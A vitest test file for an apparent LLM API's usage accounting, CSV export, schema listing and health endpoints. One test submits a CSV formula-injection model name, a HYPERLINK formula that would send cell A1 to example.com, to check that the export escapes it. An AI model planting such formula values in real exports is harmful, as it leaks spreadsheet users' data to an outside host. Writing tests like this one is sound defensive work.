import { beforeAll, describe, expect, inject, test } from "vitest";
import { type ErrorBody, newCaller, type Result, type TestCaller, type Usage, unique, userMessage } from "./client.ts";

const stage = inject("stage");
let caller: TestCaller;
const results: Result[] = [];

beforeAll(async () => {
  caller = await newCaller(stage);
  for (const model of ["gpt-4o-mini", "gpt-4o-mini", "gpt-4o", "gpt-6-luna"]) {
    const { body } = await caller.send<Result>("POST", "/chat", { model, messages: userMessage(`Hello. ${unique()}`) });
    results.push(body);
  }
});

const sumOf = (of: (result: Result) => number | undefined, among = results) =>
  among.reduce((total, result) => total + (of(result) ?? 0), 0);
const nanoUsd = (usd: string | null | undefined) => Math.round(Number(usd) * 1e9);

describe("GET /usage", () => {
  test("adds up to the results, to the token and the nano-dollar", async () => {
    const { total } = (await caller.send<Usage>("GET", "/usage")).body;
    expect(total).toMatchObject({
      requests: 4,
      failed: 0,
      prompt_tokens: sumOf(({ usage }) => usage?.prompt_tokens),
      completion_tokens: sumOf(({ usage }) => usage?.completion_tokens),
      total_tokens: sumOf(({ usage }) => usage?.total_tokens),
      reasoning_tokens: sumOf(({ usage }) => usage?.reasoning_tokens),
      unpriced_requests: 0,
      unaccounted_attempts: 0,
    });
    expect(total.reasoning_tokens).toBeGreaterThan(0);
    expect(nanoUsd(total.cost_usd)).toBe(sumOf(({ cost }) => nanoUsd(cost?.usd)));
  });

  test("has a row per day and model", async () => {
    const { data, group_by } = (await caller.send<Usage>("GET", "/usage")).body;
    expect(group_by).toEqual(["day", "model"]);
    const rows = data as (Usage["total"] & { model: string })[];
    expect(rows.map(({ model, requests }) => [model, requests])).toEqual([
      ["gpt-4o-2024-08-06", 1],
      ["gpt-4o-mini-2024-07-18", 2],
      ["gpt-6-luna", 1],
    ]);
  });

  test("groups as asked, and ends at days", async () => {
    const today = results[0]?.created_at.slice(0, 10);
    const byDay = (await caller.send<Usage>("GET", `/usage?group_by=day&from=${today}&to=${today}`)).body;
    expect(byDay.data).toEqual([expect.objectContaining({ day: today, requests: 4 })]);
    const before = (await caller.send<Usage>("GET", "/usage?from=2020-01-01&to=2020-12-31")).body;
    expect([before.data, before.total.requests]).toEqual([[], 0]);
  });

  test("is CSV for those who ask for it", async () => {
    const { headers, body } = await caller.send<string>("GET", "/usage", undefined, { accept: "text/csv" });
    expect(headers.get("content-type")).toMatch(/^text\/csv/);
    const [head, ...rows] = body.trim().split("\n");
    expect(head).toBe(
      "day,model,requests,failed,prompt_tokens,completion_tokens,total_tokens,cached_tokens,reasoning_tokens,unpriced_requests,estimated_requests,unaccounted_attempts,cost_usd",
    );
    expect(rows).toHaveLength(3);
  });

  test.each([
    ["TEXT/CSV", "text/csv; charset=utf-8"],
    ["application/json;q=0.9, text/csv", "text/csv; charset=utf-8"],
    ["text/csv;q=0.5, application/json", "application/json"],
    ["application/json, text/csv;q=0", "application/json"],
    ["*/*", "application/json"],
  ])("for Accept: %s is %s", async (accept, contentType) => {
    const { headers } = await caller.send("GET", "/usage", undefined, { accept });
    expect(headers.get("content-type")).toBe(contentType);
  });

  test("as CSV has no cell that a spreadsheet would calculate, and its numbers are numbers", async () => {
    const other = await newCaller(stage);
    const model = '=HYPERLINK("https://example.com/?"&A1,"gpt-4o")';
    const request = { model, messages: userMessage(unique()) };
    const { body } = await other.send<Result>("POST", "/chat", request, { prefer: "respond-async" });
    expect(await other.finished(body.id)).toMatchObject({ status: "failed", model });
    const csv = await other.send<string>("GET", "/usage", undefined, { accept: "text/csv" });
    const day = body.created_at.slice(0, 10);
    expect(csv.body.split("\n")[1]).toBe(`${day},"'${model.replaceAll('"', '""')}",1,1,0,0,0,0,0,0,0,0,0.000000000`);
  });

  test.each([
    ["?from=2026-13-01", "from"],
    ["?group_by=owner", "group_by[0]"],
    ["?since=2026-01-01", "since"],
  ])("refuses %s, naming %s", async (query, param) => {
    const { status, body } = await caller.send<ErrorBody>("GET", `/usage${query}`);
    expect(status).toBe(400);
    expect(body.error).toMatchObject({ code: "invalid_request", param });
  });
});

describe("a range of days for GET /usage", () => {
  test("may be a leap year, and no longer", async () => {
    expect((await caller.send("GET", "/usage?from=2020-01-01&to=2020-12-31")).status).toBe(200);
    const { status, body } = await caller.send<ErrorBody>("GET", "/usage?from=2020-01-01&to=2021-01-01");
    expect(status).toBe(400);
    expect(body.error).toMatchObject({ code: "invalid_range", param: "from", message: expect.stringContaining("366") });
  });

  test("ends after it begins", async () => {
    const { status, body } = await caller.send<ErrorBody>("GET", "/usage?from=2026-11-02&to=2026-11-01");
    expect([status, body.error.code]).toEqual([400, "invalid_range"]);
  });
});

describe("GET /schemas", () => {
  test("lists the registered structured outputs as JSON Schema", async () => {
    const { body } = await caller.send<{ data: { name: string; schema: object }[] }>("GET", "/schemas");
    expect(body.data.map(({ name }) => name)).toEqual(["sentiment", "image_sentiment", "image_description", "receipt"]);
    for (const { schema } of body.data) expect(schema).toMatchObject({ type: "object", additionalProperties: false });
  });

  test("gives one by its name, and names those that there are when it is not one", async () => {
    expect((await caller.send("GET", "/schemas/receipt")).body).toMatchObject({ name: "receipt", input: "image" });
    const { status, body } = await caller.send<ErrorBody>("GET", "/schemas/nope");
    expect(status).toBe(404);
    expect(body.error).toMatchObject({ code: "not_found", message: expect.stringMatching(/image_sentiment/) });
  });
});

test("GET /health needs no key", async () => {
  const response = await fetch(`${stage.api}/health`);
  expect([response.status, await response.json()]).toEqual([200, { status: "ok" }]);
});

test("HEAD /health tells a monitor as much, without a body", async () => {
  const response = await fetch(`${stage.api}/health`, { method: "HEAD" });
  expect([response.status, response.headers.get("x-request-id"), await response.text()]).toEqual([
    200,
    expect.any(String),
    "",
  ]);
});
